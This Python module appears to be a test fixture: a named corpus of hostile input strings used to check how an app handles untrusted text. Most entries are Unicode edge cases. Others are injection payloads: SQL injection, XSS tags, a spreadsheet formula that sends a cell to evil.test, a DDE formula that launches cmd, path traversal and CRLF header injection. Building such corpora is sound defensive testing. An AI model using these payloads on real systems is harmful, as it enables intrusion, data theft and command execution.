"""A shared corpus of hostile strings for any test that takes text from outside.

Each entry is (name, text). The names are stable ids for parametrized tests. The corpus
covers Unicode edge cases (right-to-left overrides, zero-width and combining characters,
emoji with ZWJ sequences and modifiers, astral planes, look-alikes), injection fragments
(SQL, HTML/script, Markdown, Streamlit's own Markdown extras, spreadsheet formulas), very
long strings, and what a text column or UTF-8 cannot hold (NUL bytes, lone surrogates).

`ENCODABLE` leaves out the entries UTF-8 cannot encode (lone surrogates): a browser can't
send them as form text, and a CSV file can't contain them; only JSON's "\\ud800" escapes can.
"""

from __future__ import annotations

LONG = 100_000

HOSTILE: list[tuple[str, str]] = [
    # --- blanks and whitespace
    ("empty", ""),
    ("spaces", "   "),
    ("nbsp", "\u00a0Ana\u00a0Lee\u00a0"),
    ("tabs and newlines", "\tline one\nline two\r\nline three\r"),
    ("line and paragraph separators", "a\u2028b\u2029c"),
    ("ideographic space", "\u3000\u3000"),
    # --- direction and invisible characters
    ("rtl override", "\u202eexe.txt\u202c and more"),
    ("rtl marks", "\u200f\u05e9\u05dc\u05d5\u05dd\u200f abc \u200e123"),
    ("arabic", "\u0645\u0631\u062d\u0628\u0627 \u0628\u0627\u0644\u0639\u0627\u0644\u0645"),
    ("zero-width inside", "Da\u200bna\u200c Wh\u200dit\ufefffield"),
    ("zero-width only", "\u200b\u200c\u200d\u2060\ufeff"),
    ("byte order mark", "\ufeffBOM first"),
    ("soft hyphen", "Ma\u00adria"),
    # --- combining marks and normalization
    ("decomposed accent", "Jose\u0301 Nu\u0303n\u0303ez"),
    ("zalgo", "Z\u0335\u0321\u031b\u032c\u0349a\u0336\u0318\u0349l\u0335g\u0337o\u0338"),
    ("combining only", "\u0301\u0303\u0308"),
    ("hangul jamo", "\u1100\u1161\u11a8"),
    # --- emoji and astral planes
    ("emoji", "I feel \U0001f61e today \U0001f64f"),
    (
        "zwj family",
        "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 family",
    ),
    ("skin tone and flag", "\U0001f44d\U0001f3fd \U0001f1fa\U0001f1f8"),
    ("keycap and variation selector", "1\ufe0f\u20e3 \u2764\ufe0f"),
    ("astral math letters", "\U0001d573\U0001d58a\U0001d591\U0001d591\U0001d594"),
    ("cjk", "\u65e5\u672c\u8a9e\u306e\u30c6\u30ad\u30b9\u30c8"),
    ("cyrillic look-alike", "\u0420\u0430ypal"),
    ("dotted capital i", "\u0130\u0130\u0130 \u0130stanbul"),
    ("private use and noncharacters", "\ue000\uf8ff\ufdd0\ufffe\uffff"),
    ("replacement character", "\ufffd\ufffd"),
    # --- injection fragments
    ("sql drop", "'; DROP TABLE lead;--"),
    ("sql or", '" OR 1=1 --'),
    ("sql union", "x' UNION SELECT key_hash FROM apikey --"),
    ("sql comment and quote", "O'Brien /* */ \\' \\\""),
    ("script", "<script>alert(1)</script>"),
    ("img onerror", '<img src=x onerror="alert(1)">'),
    ("html entities", "&lt;b&gt;bold&lt;/b&gt; &amp; &#x3C;"),
    ("markdown image", "![x](http://evil.test/p.png)"),
    ("markdown link", "[click me](javascript:alert(1)) <http://evil.test>"),
    ("markdown block", "# Heading\n\n**bold** _it_ `code`\n\n> quote\n- item\n\n---"),
    ("streamlit extras", ":red[alert] :material/warning: :rainbow-background[x] $x^2$"),
    ("latex", "$$\\frac{1}{0}$$ \\(x\\)"),
    ("formula hyperlink", '=HYPERLINK("http://evil.test/?d="&A1,"Click")'),
    ("formula dde", "+cmd|' /C calc'!A0"),
    ("formula at and minus", "@SUM(1+1) -2+3"),
    ("format strings", "%s %d %(name)s {0} {name} ${HOME} `id`"),
    ("backslashes", "C:\\new\\table \\n\\t \\u0000"),
    ("json fragment", '{"$ne": null, "__proto__": {}}'),
    ("path traversal", "../../etc/passwd"),
    ("crlf header", "x\r\nSet-Cookie: a=b"),
    # --- control characters
    ("control characters", "bell\x07 esc\x1b[31m red \x7f del \x85 nel"),
    # --- sizes
    ("one over a name", "N" * 81),
    ("exactly the message limit", "m" * 5_000),
    ("one over the message limit", "m" * 5_001),
    ("long ascii", "A" * LONG),
    ("long emoji", "\U0001f600" * 10_000),
    ("long combining", "e" + "\u0301" * 5_000),
    # --- what can't be stored
    ("nul byte", "nul\x00byte"),
    ("only nul", "\x00"),
    ("lone high surrogate", "\ud800"),
    ("lone low surrogate", "x\udfffy"),
]


def _encodable(text: str) -> bool:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


ENCODABLE: list[tuple[str, str]] = [(name, text) for name, text in HOSTILE if _encodable(text)]
NAMES: list[str] = [name for name, _text in HOSTILE]
TEXTS: list[str] = [text for _name, text in HOSTILE]
